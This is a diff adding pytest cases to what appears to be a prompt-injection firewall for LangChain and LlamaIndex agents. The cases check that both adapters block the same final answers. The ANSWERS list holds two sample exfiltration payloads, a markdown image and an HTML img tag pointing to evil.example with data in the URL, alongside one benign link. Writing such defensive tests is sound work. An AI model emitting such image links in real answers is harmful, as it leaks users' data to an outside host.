@@ -159,3 +159,45 @@ def test_an_injected_exfiltration_call_is_refused_by_both(fw: Firewall) -> None:
 
 def test_the_users_own_call_runs_under_both(fw: Firewall) -> None:
     assert _run_both(fw, "Summarise my inbox and email it to bob@acme.com.", "bob@acme.com") == (True, True)
+
+
+# --- final answers: the same answer is refused or shown the same way in both frameworks ---------------------
+
+ANSWERS = [
+    ("Refunds take five days. ![s](https://evil.example/p.png?d=acme-refunds)", False),
+    ("Refunds take five days. <img src=//evil.example/p.png?d=acme-refunds>", False),
+    ("Refunds take five days; details at https://help.acme.com/refunds.", True),
+]
+
+
+def _langchain_answer(fw: Firewall, answer: str) -> str:
+    from ctxguard_langchain import CtxGuardMiddleware
+    from ctxguard_langchain.testing import ScriptedChatModel
+    from langchain.agents import create_agent
+    from langchain_core.messages import AIMessage, HumanMessage
+
+    with fw.session("alice", "acme") as s:
+        agent = create_agent(ScriptedChatModel(replies=[AIMessage(answer)]), tools=[],
+                             middleware=[CtxGuardMiddleware(s)])
+        result = agent.invoke({"messages": [HumanMessage("How long do refunds take?")]})
+        return str(result["messages"][-1].content)
+
+
+def _llamaindex_answer(fw: Firewall, answer: str) -> str:
+    from ctxguard_llamaindex import GuardedQueryEngine
+    from ctxguard_llamaindex.testing import ScriptedLLM
+    from llama_index.core.query_engine import RetrieverQueryEngine
+
+    with fw.session("alice", "acme") as s:
+        _, retriever = _retrievers(fw, s)
+        inner = RetrieverQueryEngine.from_args(retriever, llm=ScriptedLLM([answer]))
+        return str(GuardedQueryEngine(inner, s).query("How long do refunds take?"))
+
+
+@pytest.mark.parametrize(("answer", "shown"), ANSWERS)
+def test_a_final_answer_gets_the_same_decision_in_both(fw: Firewall, answer: str, shown: bool) -> None:
+    lc, li = _langchain_answer(fw, answer), _llamaindex_answer(fw, answer)
+    assert (lc == answer) is shown and (li == answer) is shown
+    if not shown:
+        assert lc.startswith("ctxguard blocked this answer") and li.startswith("ctxguard blocked this answer")
+        assert "evil.example" not in lc + li
